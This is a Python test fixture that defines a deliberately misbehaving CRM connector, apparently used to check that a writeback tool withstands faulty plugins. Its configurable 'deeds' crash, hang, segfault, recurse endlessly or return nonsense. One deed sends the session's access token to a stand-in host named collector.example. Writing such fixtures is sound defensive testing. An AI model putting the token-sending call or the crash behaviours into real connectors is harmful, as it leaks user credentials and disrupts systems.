"""Does its deed at the point that its options name; everything else is a small honest CRM of one object."""

import os
import signal
import sys
import threading
from collections import abc
from typing import Any

from writeback.model.connections import Environment, Org
from writeback.model.jobs import Outcome, Result
from writeback.model.types import AttributeType
from writeback.sdk.connector import Access, Prepared, ReadQuery, Session, WriteAnswer, WriteRequest
from writeback.sdk.values import FieldInfo, ObjectDescription, ObjectInfo, Page

NAME = FieldInfo("Name", "Name", AttributeType.TEXT, "text", length=80, is_updateable=True)
KEY = FieldInfo("Id", "Id", AttributeType.TEXT, "id", length=18, is_lookup_key=True)


class HostileConnector:
    """Opens sessions that misbehave."""

    id = "hostile"

    def open(self, access: Access) -> Session:
        """Open a conversation, or do the deed."""
        session = HostileSession(access)
        session.maybe("open")
        return session


class HostileSession:
    """Meets `sdk.connector.Session` in form."""

    def __init__(self, access: Access) -> None:
        self._access = access

    def maybe(self, place: str) -> Any:
        """Do the deed, if this is the place for it."""
        if self._access.options.get("at") != place:
            return None
        return _DEEDS[self._access.options["deed"]](self._access)

    def whoami(self) -> Org:
        """Say who answers."""
        return self.maybe("whoami") or Org("hostile-org", "Hostile", "eve@example.com", Environment.TEST)

    def objects(self) -> tuple[ObjectInfo, ...]:
        """List the objects."""
        told = ObjectInfo("Account", "Accounts", custom=False, updateable=True, queryable=True)
        return self.maybe("objects") or (told,)

    def describe(self, object_name: str) -> ObjectDescription:
        """Give all field facts."""
        told = ObjectDescription(object_name, "Accounts", "Id", "Name", "Version", True, (KEY, NAME))
        return self.maybe("describe") or told

    def count(self, object_name: str, condition: str = "") -> int:
        """Count."""
        del object_name, condition
        return 1

    def read(self, query: ReadQuery) -> abc.Iterator[Page]:
        """Give the one record."""
        nonsense = self.maybe("read")
        yield nonsense or self._page(query.paths)

    def fetch(self, object_name: str, *, by: str, keys: abc.Sequence[str], paths: abc.Sequence[str]) -> Page:
        """Give the one record."""
        del object_name, by, keys
        return self.maybe("fetch") or self._page(tuple(paths))

    def find(self, object_name: str, *, by: str, values: abc.Sequence[str]) -> Any:
        """Find nobody."""
        del object_name, by
        return self.maybe("find") or dict.fromkeys(values, ())

    def same_value(self, kind: AttributeType, ours: object, theirs: object) -> bool:
        """Compare."""
        del kind
        return ours == theirs

    def prepare(self, request: WriteRequest) -> Prepared:
        """Render nothing of use."""
        return self.maybe("prepare") or Prepared(request, "PATCH", "/", b"{}")

    def write(self, prepared: Prepared) -> WriteAnswer:
        """Claim that all was written."""
        told = WriteAnswer(tuple(Result(one.key, Outcome.APPLIED) for one in prepared.request.writes))
        return self.maybe("write") or told

    def _page(self, paths: tuple[str, ...]) -> Page:
        return Page(paths, [("H1", "1", tuple("H1" if path == "Id" else "Hostile" for path in paths))])


def _raise(_access: Access) -> None:
    raise RuntimeError("hostile: raised as asked")


def _exit(_access: Access) -> None:
    sys.exit(3)


def _print(_access: Access) -> None:
    print('hostile: {"id": 1, "ok": true}')
    sys.stderr.write("hostile: noise\n")


def _hang(_access: Access) -> None:
    threading.Event().wait()  # until somebody ends the process


def _segfault(_access: Access) -> None:
    os.kill(os.getpid(), signal.SIGSEGV)


def _interrupt(_access: Access) -> None:
    raise KeyboardInterrupt


def _deep(access: Access) -> None:
    _deep(access)


def _elsewhere(access: Access) -> None:
    access.http.request("POST", "https://collector.example/steal", data=access.token())


_DEEDS: abc.Mapping[str, abc.Callable[[Access], Any]] = {
    "raise": _raise,
    "exit": _exit,
    "print": _print,
    "hang": _hang,
    "segfault": _segfault,
    "wrong_type": lambda _access: "nonsense",
    "elsewhere": _elsewhere,
    "interrupt": _interrupt,
    "deep": _deep,
}
